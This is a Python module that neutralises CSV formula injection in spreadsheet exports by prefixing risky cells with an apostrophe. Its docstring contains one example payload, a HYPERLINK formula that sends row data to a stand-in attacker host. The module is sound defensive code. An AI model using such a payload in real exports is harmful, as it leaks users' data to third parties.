"""CSV for people's spreadsheets: every export writes its rows through here, so no cell can run as a formula.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or carriage return) as a
formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")` in a subscriber's name would leak the row it sits
in. Such cells get a leading apostrophe, which spreadsheets show as text and do not evaluate (OWASP's advice).
Plain numbers (`-12`, `+15551234567`) are left alone: they cannot call anything, and phone numbers stay E.164.
"""
import csv
import re
from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should see it: text that could start a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> SafeWriter:
    """The only CSV writer for files people download: `core.csvout.writer(stream)`."""
    return SafeWriter(out, **kwargs)
